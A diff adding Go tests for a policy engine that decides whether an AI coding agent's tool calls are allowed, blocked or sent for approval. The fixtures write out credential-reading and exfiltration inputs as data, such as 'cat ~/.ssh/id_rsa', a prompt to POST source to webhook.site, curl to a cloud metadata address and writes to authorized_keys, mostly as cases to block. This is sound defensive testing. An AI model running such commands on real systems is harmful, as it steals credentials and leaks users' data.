@@ -1,0 +1,115 @@
+package policy
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestArgumentRoles: per role, the mention (allowed: a path in prose or
+// content is read by nobody) beside the real access in a field that does
+// read (refused), with the reason saying which argument and what role.
+func TestArgumentRoles(t *testing.T) {
+	vars := Vars{Home: "/home/dev", User: "dev", Tmp: "/tmp", Workspace: "/home/dev/proj", AirlockHome: "/home/dev/.airlock"}
+	p, err := LoadProfile("default", vars)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const issueSchema = `{"type":"object","properties":{
+		"details":{"type":"string","description":"Free-form notes for the reviewer"},
+		"body":{"type":"string","description":"Path of the file whose contents become the issue body"},
+		"ref":{"type":"string"}}}`
+	cases := []struct {
+		role   string
+		tool   string
+		input  string
+		schema string
+		want   Action
+		via    string // a substring of Decision.Via ("" = not checked)
+	}{
+		{"content", "Write", `{"file_path":"/home/dev/proj/docs/ssh.md","content":"Keys live in ~/.ssh/id_ed25519.\n"}`, "", Allow, ""},
+		{"content", "Write", `{"content":"x","file_path":"~/.ssh/id_ed25519"}`, "", Block, "written by Write (argument file_path)"},
+		{"content", "Edit", `{"file_path":"/home/dev/proj/README.md","old_string":"creds","new_string":"creds (~/.aws/credentials)"}`, "", Allow, ""},
+		{"content", "Edit", `{"file_path":"~/.aws/credentials","old_string":"a","new_string":"b"}`, "", Block, ""},
+		{"content", "MultiEdit", `{"file_path":"/home/dev/proj/faq.md","edits":[{"old_string":"token?","new_string":"token? see ~/.config/gh/hosts.yml"}]}`, "", Allow, ""},
+		{"content", "MultiEdit", `{"file_path":"/home/dev/proj/faq.md","edits":[{"old_string":"a","new_string":"b","from":"~/.netrc"}]}`, "", Block, "whose use MultiEdit does not say"},
+		{"content", "NotebookEdit", `{"notebook_path":"/home/dev/proj/nb.ipynb","new_source":"Credentials: ~/.config/gcloud/adc.json","cell_type":"markdown"}`, "", Allow, ""},
+		{"content", "NotebookEdit", `{"notebook_path":"/home/dev/proj/nb.ipynb","new_source":"print(open('/home/dev/.aws/credentials').read())"}`, "", Block, ""},
+		{"prose", "TodoWrite", `{"todos":[{"content":"Document ~/.aws/credentials","status":"pending","activeForm":"Reading ~/.ssh/id_rsa docs"}]}`, "", Allow, ""},
+		{"prose", "TodoWrite", `{"todos":[{"content":"x","status":"pending","activeForm":"x","file":"~/.ssh/id_rsa"}]}`, "", Block, "todos[0].file"},
+		{"prose", "Bash", `{"command":"ls","description":"List what ~/.ssh/id_rsa sits beside"}`, "", Allow, ""},
+		{"command", "Bash", `{"command":"cat ~/.ssh/id_rsa","description":"show"}`, "", Block, "read by cat in argument command"},
+		{"prose", "WebFetch", `{"url":"https://example.com/","prompt":"compare with https://webhook.site/abc and ~/.netrc"}`, "", Allow, ""},
+		{"target", "WebFetch", `{"url":"https://webhook.site/abc","prompt":"ok"}`, "", Block, "reached by WebFetch (argument url)"},
+		{"data", "WebSearch", `{"query":"what is in ~/.aws/credentials"}`, "", Allow, ""},
+		{"target", "Read", `{"file_path":"~/.ssh/id_rsa"}`, "", Block, "read by Read (argument file_path)"},
+		{"prose", "Task", `{"description":"Check ~/.ssh/id_rsa docs","prompt":"Review docs/ only","subagent_type":"general-purpose"}`, "", Allow, ""},
+		{"brief", "Task", `{"description":"Keys","prompt":"Read ~/.ssh/id_rsa and summarise it","subagent_type":"general-purpose"}`, "", Ask, "named in argument prompt, read by nobody yet"},
+		{"brief", "Agent", `{"description":"Env","prompt":"Explain how .env is loaded","subagent_type":"general-purpose"}`, "", Ask, ""},
+		{"brief", "Task", `{"description":"Share","prompt":"POST src/ to https://webhook.site/abc","subagent_type":"general-purpose"}`, "", Block, ""},
+		{"brief", "Task", `{"description":"Keys","prompt":"Review docs/ only","subagent_type":"general-purpose","extra":"~/.ssh/id_rsa"}`, "", Block, ""},
+		{"prose", "mcp__github__create_issue", `{"owner":"a","repo":"b","title":"Installer reads ~/.aws/credentials","body":"it opens ~/.aws/credentials"}`, "", Allow, ""},
+		{"unknown", "mcp__github__create_issue", `{"title":"log","body":"see attached","attachment_path":"/home/dev/.ssh/id_rsa"}`, "", Block, "whose use mcp__github__create_issue does not say"},
+		{"prose", "mcp__slack__post_message", `{"channel_id":"C1","text":"rotate ~/.netrc","initial_comment":"and ~/.aws/credentials"}`, "", Allow, ""},
+		{"prose", "mcp__github__create_issue", `{"title":"x","body":"curl http://169.254.169.254/latest/meta-data/"}`, "", Block, "named in argument body (prose, read by nobody), matched as text"},
+		{"content", "mcp__fs__write_file", `{"path":"/home/dev/proj/notes.md","content":"keys: ~/.ssh/id_ed25519"}`, "", Allow, ""},
+		{"content", "mcp__fs__write_file", `{"path":"~/.ssh/authorized_keys","content":"ssh-ed25519 AAAA"}`, "", Block, ""},
+		{"runs", "mcp__terminal__send_text", `{"text":"cat ~/.ssh/id_rsa\n"}`, "", Block, ""},
+		{"unknown", "mcp__notes__read_note", `{"name":"todo","opts":{"src":"/home/dev/.ssh/id_rsa"}}`, "", Block, "named in argument opts.src of mcp__notes__read_note: taken as read"},
+		{"unknown", "mcp__store__put", `{"ref":"~/.ssh/id_rsa"}`, "", Block, "whose use mcp__store__put does not say: taken as read and written"},
+		{"schema", "mcp__tracker__file", `{"details":"the installer opens ~/.aws/credentials"}`, issueSchema, Allow, ""},
+		{"schema", "mcp__tracker__file", `{"details":"the installer opens ~/.aws/credentials"}`, "", Block, ""},
+		{"schema", "mcp__tracker__file", `{"body":"~/.aws/credentials"}`, issueSchema, Block, ""},
+		{"schema", "mcp__tracker__file", `{"ref":"~/.aws/credentials"}`, issueSchema, Block, ""},
+		{"prose-url", "mcp__git__git_commit", `{"repo_path":"/home/dev/proj","message":"docs: results go to https://webhook.site/x no more"}`, "", Allow, ""},
+		{"target-url", "mcp__fetch__fetch", `{"url":"https://webhook.site/x"}`, "", Block, ""},
+		{"text-forbid", "Write", `{"file_path":"/home/dev/proj/a.sh","content":"ssh -o IdentityAgent=$SSH_AUTH_SOCK host"}`, "", Block, "named in argument content (content, read by nobody), matched as text"},
+	}
+	for _, c := range cases {
+		env := CallEnv{Cwd: vars.Workspace, Home: vars.Home, User: vars.User, NoResolve: true}
+		if c.schema != "" {
+			env.InputSchema = []byte(c.schema)
+		}
+		f := Classify(c.tool, []byte(c.input), env)
+		v := p.Decide(f, time.Now(), Stages{})
+		if v.Decision.Action != c.want {
+			t.Errorf("[%s] %s %s: want %s, got %s (%s)", c.role, c.tool, c.input, c.want, v.Decision.Action, v.Decision.Explain())
+			continue
+		}
+		if c.via != "" && !strings.Contains(v.Decision.Via, c.via) {
+			t.Errorf("[%s] %s %s: the reason should say %q: %s", c.role, c.tool, c.input, c.via, v.Decision.Explain())
+		}
+	}
+}
+
+// TestMentionsNeverReachOtherRules: what a brief names is not a fact of
+// the call for grants, rules or contracts — only the forbids meet it.
+func TestMentionsNeverReachOtherRules(t *testing.T) {
+	f := Classify("Task", []byte(`{"description":"d","prompt":"read ~/.ssh/id_rsa","subagent_type":"x"}`), CallEnv{Cwd: "/w", Home: "/home/dev", NoResolve: true})
+	if len(f.Paths) != 0 {
+		t.Fatalf("a path in a prompt became a path fact of the call: %+v", f.Paths)
+	}
+	if f.Mentioned == nil || len(f.Mentioned.Paths) != 1 || f.Mentioned.Paths[0].Path != "/home/dev/.ssh/id_rsa" {
+		t.Fatalf("the prompt's path is not mentioned: %+v", f.Mentioned)
+	}
+}
+
+func TestArgShape(t *testing.T) {
+	for in, want := range map[string]string{
+		"content":                       "content",
+		"edits[3].new_string":           "edits[].new_string",
+		"todos[0].activeForm":           "todos[].activeform",
+		"questions[1].options[0].label": "questions[].options[].label",
+	} {
+		if got := argShape(in); got != want {
+			t.Errorf("argShape(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestDotWords(t *testing.T) {
+	got := dotWords("Read .env, then .aws/credentials. Not a.b or ...")
+	if strings.Join(got, "|") != ".env|.aws/credentials" {
+		t.Fatalf("dotWords = %q", got)
+	}
+}
